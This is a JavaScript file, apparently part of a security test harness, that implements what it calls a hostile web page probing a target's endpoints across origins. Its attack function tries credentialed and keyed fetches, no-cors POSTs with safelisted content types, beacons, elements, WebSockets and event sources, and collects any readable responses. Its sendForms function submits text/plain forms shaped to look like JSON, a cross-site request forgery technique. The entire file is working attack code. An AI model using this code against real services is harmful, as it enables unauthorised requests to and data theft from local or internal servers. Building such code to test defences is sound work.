// What a hostile page does, in the browser. Served by the attacker's site.

/**
 * Tries everything a script can try on each path, and gives what it could read.
 * @param {{ base: string, paths: string[], key: string, body: string }} target
 */
async function attack({ base, paths, key, body }) {
	const read = [];
	const attempts = [];
	const attempt = (begin) => attempts.push(new Promise(begin));
	const get = (url, init) =>
		attempt((resolve) => {
			fetch(url, init)
				.then(async (response) => {
					if (response.type !== "opaque") read.push(`${response.status} ${await response.text()}`);
				})
				.finally(resolve)
				.catch(() => {});
		});
	/** Something that tells by an event whether it got anywhere. */
	const open = (what, source, success) =>
		attempt((resolve) => {
			source[success] = () => {
				read.push(`${what} opened`);
				resolve();
			};
			source.onerror = () => {
				source.close?.();
				resolve();
			};
		});
	const element = (name, attributes) => {
		const made = Object.assign(document.createElement(name), attributes);
		open(name, made, "onload");
		document.body.append(made);
	};

	for (const path of paths) {
		const url = base + path;
		const withKey = { authorization: `Bearer ${key}` };
		get(url, {});
		get(url, { mode: "no-cors" });
		get(url, { credentials: "include" });
		get(url, { headers: withKey });
		get(url, { headers: { "x-api-key": key } });
		get(url, { method: "POST", headers: { ...withKey, "content-type": "application/json" }, body });
		for (const type of ["text/plain", "application/x-www-form-urlencoded", "text/plain;application/json"]) {
			get(url, { method: "POST", mode: "no-cors", headers: { "content-type": type }, body });
		}
		navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
		element("img", { src: url });
		element("script", { src: url });
		element("link", { rel: "stylesheet", href: url });
		open("a socket", new WebSocket(url.replace("http", "ws")), "onopen");
		open("an event source", new EventSource(url), "onopen");
	}
	await Promise.all(attempts);
	return read;
}

/** Sends forms into frames, by both methods: what arrives is no answer to a script, but may have an effect. */
async function sendForms({ base, paths, body }) {
	const answered = [];
	for (const path of paths) {
		for (const method of ["get", "post"]) {
			const frame = Object.assign(document.createElement("iframe"), { name: `${method} ${path}` });
			const form = Object.assign(document.createElement("form"), { action: base + path, method, target: frame.name });
			form.enctype = "text/plain";
			// A form of plain text can be made to look like JSON.
			form.append(Object.assign(document.createElement("input"), { name: `${body.slice(0, -1)},"x":"`, value: '"}' }));
			document.body.append(frame, form);
			answered.push(
				new Promise((resolve) => {
					frame.onload = resolve;
				}),
			);
			form.submit();
		}
	}
	await Promise.all(answered);
}

Object.assign(window, { attack, sendForms });
